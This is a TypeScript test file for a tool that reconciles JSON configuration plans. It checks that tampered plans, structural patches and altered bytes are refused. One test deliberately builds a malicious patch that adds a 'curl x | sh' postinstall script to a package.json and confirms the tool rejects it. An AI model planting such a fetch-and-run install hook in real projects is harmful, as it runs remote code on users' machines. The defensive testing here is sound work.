// The plan-tampering reproducers of issue 12 (High 1 and 3), each as a test: an edited patch value, an
// edited digest, deleted fingerprints, a root-replacing patch, a plan pointed at an unrelated
// package.json (postinstall script), a top-level section rewritten, and precision loss the parsed value
// hides; and the format-preserving write of a one-field plan, byte for byte.
import { describe, expect, it } from 'vitest';
import { eisoAdapter } from '../adapters/eiso.js';
import { portalAdapter } from '../adapters/portal.js';
import { fixture } from '../match/fixtures.test-util.js';
import { apply } from './apply.js';
import { ReconcileError } from './errors.js';
import { documentHash, sha256Hex, sha256HexPure, textHash } from './hash.js';
import { planDigest, structuralKind } from './integrity.js';
import { type Plan, type PlanInputs, plan } from './plan.js';

// biome-ignore lint/suspicious/noExplicitAny: fixtures are native JSON edited freely.
type Doc = Record<string, any>;

function inputs(): PlanInputs & { eiso: { raw: Doc }; portal: { raw: Doc } } {
  return {
    eiso: { raw: fixture('eiso') as Doc, adapter: eisoAdapter },
    portal: { raw: fixture('portal') as Doc, adapter: portalAdapter },
  };
}

function code(f: () => unknown): string {
  try {
    f();
  } catch (e) {
    if (e instanceof ReconcileError) return e.code;
    throw e;
  }
  return 'accepted';
}

/** What a careful attacker does: edit the plan, then recompute its (unkeyed) digest. */
function redigest(p: object): Plan {
  return { ...p, digest: planDigest(p) } as Plan;
}

describe('plan digest', () => {
  it('is a SHA-256 over the content, recomputed by apply', () => {
    const p = plan(inputs());
    expect(p.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(code(() => apply(p, inputs()))).toBe('accepted');
  });
  it('an edited patch value is refused', () => {
    const p = plan(inputs());
    const op = p.patches.portal[0] as { value: unknown };
    const edited = {
      ...p,
      patches: { ...p.patches, portal: [{ ...op, value: 'Bước khác' }, ...p.patches.portal.slice(1)] },
    };
    expect(code(() => apply(edited as Plan, inputs()))).toBe('PLAN_TAMPERED');
  });
  it('an edited digest, a removed digest and an edited fingerprint are refused', () => {
    const p = plan(inputs());
    expect(code(() => apply({ ...p, digest: `sha256:${'0'.repeat(64)}` }, inputs()))).toBe('PLAN_TAMPERED');
    const { digest: _d, ...bare } = p;
    expect(code(() => apply(bare as Plan, inputs()))).toBe('PLAN_TAMPERED');
    const other = { ...p, createdFrom: { ...p.createdFrom, portal: documentHash({}) } };
    expect(code(() => apply(other, inputs()))).toBe('PLAN_TAMPERED');
  });
  it('a plan without createdFrom is refused even with a recomputed digest', () => {
    const p = plan(inputs());
    const { createdFrom: _c, ...rest } = p;
    expect(code(() => apply(redigest(rest), inputs()))).toBe('PLAN_INVALID');
    expect(code(() => apply(redigest({ ...p, createdFrom: { eiso: p.createdFrom.eiso } }), inputs()))).toBe(
      'PLAN_INVALID',
    );
  });
});

describe('structural patches', () => {
  it('a root-replacing patch is refused unless the plan says why', () => {
    const p = plan(inputs());
    const root = redigest({ ...p, patches: { ...p.patches, portal: [{ op: 'replace', path: '', value: {} }] } });
    expect(code(() => apply(root, inputs()))).toBe('PATCH_REJECTED');
  });
  it('a plan pointed at an unrelated package.json (adding a postinstall script) is refused', () => {
    const pkg = { name: 'victim', version: '1.0.0', scripts: { test: 'vitest' } };
    const p = plan(inputs());
    const evil = redigest({
      ...p,
      createdFrom: { ...p.createdFrom, portal: documentHash(pkg) },
      patches: { ...p.patches, portal: [{ op: 'add', path: '/scripts/postinstall', value: 'curl x | sh' }] },
    });
    const docs = { ...inputs(), portal: { raw: pkg, adapter: portalAdapter } };
    // The target does not read as a portal configuration: nothing is patched.
    expect(code(() => apply(evil, docs))).toBe('INVALID_DOCUMENT');
    expect(pkg.scripts).toEqual({ test: 'vitest' });
  });
  it('a whole top-level section added, replaced or removed is structural; a field edit is not', () => {
    const doc = { TruongHop: [{ Ma: 'a' }], Ten: 'x' };
    expect(structuralKind(doc, { op: 'add', path: '/scripts', value: { postinstall: 'x' } })).toContain('/scripts');
    expect(structuralKind(doc, { op: 'remove', path: '/TruongHop' })).toContain('removes');
    expect(structuralKind(doc, { op: 'replace', path: '/Ten', value: 'y' })).toBeUndefined();
    expect(structuralKind(doc, { op: 'replace', path: '/TruongHop/0/Ma', value: 'b' })).toBeUndefined();
    expect(structuralKind(doc, { op: 'move', from: '/Ten', path: '/X' })).toContain('move');
    const p = plan(inputs());
    const section = redigest({
      ...p,
      patches: { ...p.patches, portal: [{ op: 'replace', path: '/TruongHop', value: [] }] },
    });
    expect(code(() => apply(section, inputs()))).toBe('PATCH_REJECTED');
    // The same operation with a reason in the plan passes the structural check (and fails later: no case left).
    const explained = redigest({
      ...section,
      structural: [{ system: 'portal', op: 'replace', path: '/TruongHop', reason: 'test: the cases are rebuilt' }],
    });
    expect(code(() => apply(explained, inputs()))).toBe('INVALID_DOCUMENT');
  });
});

/** The portal fixture as a province might save it: CRLF, 4-space indent, every non-ASCII as \u, odd numbers. */
function awkwardText(raw: Doc): string {
  const extra = { ...raw, HeSo: '@1.0@', Gia: '@2.50@', Mu: '@1e1@', SoLon: '@12345678901234567890@' };
  return JSON.stringify(extra, null, 4)
    .replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
    .replace(/"@([^@]+)@"/g, '$1')
    .replace(/\n/g, '\r\n');
}

describe('bytes and format', () => {
  it('the bytes fingerprint sees a big integer rounded, which the value fingerprint cannot', () => {
    const [before, after] = ['{"SoLon": 12345678901234567890}', '{"SoLon": 12345678901234567000}'];
    expect(documentHash(JSON.parse(before))).toBe(documentHash(JSON.parse(after)));
    expect(textHash(before)).not.toBe(textHash(after));
    const i = inputs();
    const text = awkwardText(i.portal.raw);
    const p = plan({ ...i, portal: { ...i.portal, raw: JSON.parse(text), text } });
    expect(p.createdFrom.bytes?.portal).toBe(textHash(text));
    const rounded = text.replace('12345678901234567890', '12345678901234567000');
    const docs = { ...i, portal: { ...i.portal, raw: JSON.parse(rounded), text: rounded } };
    expect(code(() => apply(p, docs))).toBe('PLAN_STALE');
    expect(code(() => apply(p, { ...i, portal: { ...i.portal, raw: JSON.parse(text) } }))).toBe('PLAN_STALE');
  });

  it('a one-field plan changes only that field’s bytes (CRLF, 4 spaces, \\u escapes, 1.0, 2.50, 1e1, big integer)', () => {
    // Start from documents that agree, then change one step time in e-ISO: one portal operation.
    const first = inputs();
    const synced = apply(plan(first), first).documents;
    const eiso = structuredClone(synced.eiso) as Doc;
    eiso.NoiDung.QuyTrinhXuLy[1].ThoiGian = '01 ngày';
    const text = awkwardText(synced.portal as Doc);
    const docs = {
      eiso: { raw: eiso, adapter: eisoAdapter },
      portal: { raw: JSON.parse(text), adapter: portalAdapter, text },
    };
    const p = plan(docs);
    expect(p.patches.portal).toEqual([{ op: 'replace', path: '/TruongHop/0/QuyTrinh/1/ThoiGianXuLy', value: 8 }]);
    const out = apply(p, docs).texts.portal!;
    // The expected bytes, found by hand: the second "ThoiGianXuLy" of the text is the one of step 2.
    const key = '"ThoiGianXuLy": ';
    const at = text.indexOf(key, text.indexOf(key) + 1) + key.length;
    const end = text.indexOf('\r\n', at);
    const valueEnd = text[end - 1] === ',' ? end - 1 : end;
    expect(out).toBe(`${text.slice(0, at)}8${text.slice(valueEnd)}`);
    for (const kept of ['1.0', '2.50', '1e1', '12345678901234567890', '\\u1ebf', '\r\n        "']) {
      expect(out).toContain(kept);
    }
  });
});

describe('sha256Hex', () => {
  it('node:crypto and the pure fallback agree', () => {
    for (const s of ['', 'abc', 'ầ'.repeat(64), 'x'.repeat(1000)]) expect(sha256Hex(s)).toBe(sha256HexPure(s));
    expect(sha256Hex(new Uint8Array([1, 2, 3]))).toBe(sha256HexPure(new Uint8Array([1, 2, 3])));
  });
});
